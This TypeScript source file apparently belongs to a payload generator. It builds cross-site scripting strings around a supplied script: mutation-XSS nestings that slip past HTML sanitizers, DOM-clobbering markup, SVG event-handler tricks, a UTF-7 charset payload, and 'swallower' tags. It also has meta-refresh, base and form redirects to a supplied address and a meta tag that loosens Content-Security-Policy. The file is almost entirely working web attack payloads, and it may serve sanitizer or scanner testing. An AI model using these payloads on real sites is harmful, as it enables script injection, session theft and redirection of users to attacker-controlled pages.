// Markup that changes its meaning when it is written out and read again (mXSS), foreign content, clobbering, swallowers.
import type { Family, Recipe } from './payload.ts';

const mutating: Recipe[] = [
  (script) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror=${script}&gt;">`,
  (script) => `<math><mtext><table><mglyph><style><math><img src=x:x onerror="${script}"></style>`,
  (script) => `<form><math><mtext></form><form><mglyph><style></math><img src=x:x onerror="${script}">`,
  (script) => `<svg></p><style><a id="</style><img src=x:x onerror=${script}>"></svg>`,
  (script) => `<svg><style><img title="</style><img src=x:x onerror=${script}>"></style></svg>`,
  (script) =>
    `<svg><desc><style><a title="</style></desc></svg><img src=x:x onerror=${script}>"></style></desc></svg>`,
  (script) =>
    `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x:x onerror=${script}>"></style></annotation-xml></math>`,
  (script) => `<noscript><p title="</noscript><img src=x:x onerror=${script}>"></noscript>`,
  (script) => `<noembed><img title="</noembed><img src=x:x onerror=${script}>"></noembed>`,
  (script) => `<noframes><p title="</noframes><img src=x:x onerror=${script}>"></noframes>`,
  (script) => `<xmp><p title="</xmp><img src=x:x onerror=${script}>"></xmp>`,
  (script) => `<iframe><p title="</iframe><img src=x:x onerror=${script}>"></iframe>`,
  (script) => `<textarea><p title="</textarea><img src=x:x onerror=${script}>"></textarea>`,
  (script) => `<title><p title="</title><img src=x:x onerror=${script}>"></title>`,
  (script) => `<template><p title="</template><img src=x:x onerror=${script}>"></template>`,
  (script) => `<select><template><style></template></select><img src=x:x onerror="${script}">`,
  (script) => `<select><iframe></select><img src=x:x onerror="${script}">`,
  (script) => `<select><keygen><style><img title="</style></select><img src=x:x onerror=${script}>">`,
  (script) => `<table><caption><svg><style></caption></table><img src=x:x onerror="${script}"></style>`,
  (script) => `<a><table><a><img src=x:x onerror="${script}"></table></a>`,
  (script) => `<p id="</style><img src=x:x onerror=${script}>"><style>`,
  (script) => `<b><i></b><svg><font color=red></svg><img src=x:x onerror="${script}">`,
  (script) => `${'<b>'.repeat(20)}<p>${'</b>'.repeat(5)}<img src=x:x onerror="${script}">`,
  (script) => `<svg><foreignObject><img src=x:x onerror="${script}"></foreignObject></svg>`,
  (script) =>
    `<svg><foreignObject><math><mi><img src=x:x onerror="${script}"></mi></math></foreignObject></svg>`,
  (script) => `<svg><title><style><img title="</style></title></svg><img src=x:x onerror=${script}>">`,
  (script) =>
    `<math><mi//xlink:href="data:x,<script>${script}</script>"><img src=x:x onerror="${script}"></math>`,
  (script) => `<math><maction actiontype=statusline xlink:href="javascript:${script}">x</maction></math>`,
  (script) => `<svg><set attributeName=onmouseover to="${script}" /><rect width=9 height=9 /></svg>`,
  (script) => `<svg><animate onbegin="${script}" attributeName=x dur=1s /></svg>`,
  (script) => `<svg><animate onend="${script}" attributeName=x dur=1ms /></svg>`,
  (script) => `<svg><animateTransform onbegin="${script}" attributeName=transform dur=1s /></svg>`,
  (script) => `<svg><animateMotion onbegin="${script}" dur=1s /></svg>`,
  (script) => `<svg><discard onbegin="${script}" begin=0s /></svg>`,
  (script) => `<svg><image href=x:x onerror="${script}" width=9 height=9 /></svg>`,
  (script) => `<svg><feImage xlink:href=x:x onerror="${script}" /></svg>`,
  (script) =>
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${script}</handler></svg>`,
  (script) =>
    `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${script}</x:script><x:img src="x:x" onerror="${script}" /></svg>`,
  (script) =>
    `<form id=f><input name=attributes><input name=parentNode></form><img src=x:x onerror="${script}">`,
  (script) => `<form onsubmit="${script}"><input name=nodeName><input autofocus onfocus="${script}"></form>`,
  (script) =>
    `<img name=body src=x:x><img name=cookie src=x:x onerror="${script}"><a id=location href=x>x</a>`,
  (script) =>
    `<a id=defaultView></a><a id=defaultView name=trustedTypes href="x:${script}"></a><object name=getElementById></object>`,
  (script) => `<p is=x-y style="content:'</style>'"><img src=x:x onerror="${script}"></p>`,
  (script) => `<p data-a="x" aria-label="--><img src=x:x onerror=${script}>"><!--`,
  (script) => `<div id="__proto__"></div><img name=__proto__ src=x:x onerror="${script}">`,
];

/** These open something that never ends, or replace the document. */
const swallowing: Recipe[] = [
  (script) => `<!--<img src=x:x onerror="${script}">`,
  (script) => `<img src=x:x onerror="${script}"><plaintext>`,
  (script) => `<img src=x:x onerror="${script}"><xmp>`,
  (script) => `<img src=x:x onerror="${script}"><textarea>`,
  (script) => `<img src=x:x onerror="${script}"><style>`,
  (script) => `<script>${script}`,
  (script) => `<svg><style><!--</style><img src=x:x onerror="${script}"><script>${script}//`,
  (script) => `</div></body></html><img src=x:x onerror="${script}">`,
  (script) => `<frameset onload="${script}"><frame src="javascript:${script}"></frameset>`,
  (script) => `<img src=x:x onerror="${script}"><select><option><textarea><title>`,
  (script) => `<img src=x:x onerror="${script}"><noscript><noembed><iframe>`,
  (script) => `<table><tr><td><img src=x:x onerror="${script}"><math><mtext><table><mglyph><style>`,
  (script) => `<img src="x:x" onerror="${script}" title="`,
  (script, address) =>
    `<meta http-equiv=refresh content="0;url=${address}"><img src=x:x onerror="${script}">`,
  (script, address) =>
    `<meta http-equiv=refresh content="0; URL='${address}'"><img src=x:x onerror="${script}">`,
  (script, address) =>
    `<base href="${address}/" target=_top><a href=y autofocus onfocus="this.click();${script}">x</a>`,
  (script, address) =>
    `<form action="${address}" target=_top><input autofocus onfocus="${script};form.submit()"></form>`,
  (_script, address) =>
    `<iframe src="${address}" name=x></iframe><a href="${address}" target=x autofocus>y</a>`,
  (script) =>
    `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'"><img src=x:x onerror="${script}">`,
  (script) =>
    `<meta charset=utf-7>+ADw-script+AD4-${script}+ADw-/script+AD4-<img src=x:x onerror="${script}">`,
];

export const mutationFamilies: Family[] = [
  { name: 'mutation', recipes: mutating },
  { name: 'swallower', recipes: swallowing, last: true },
];
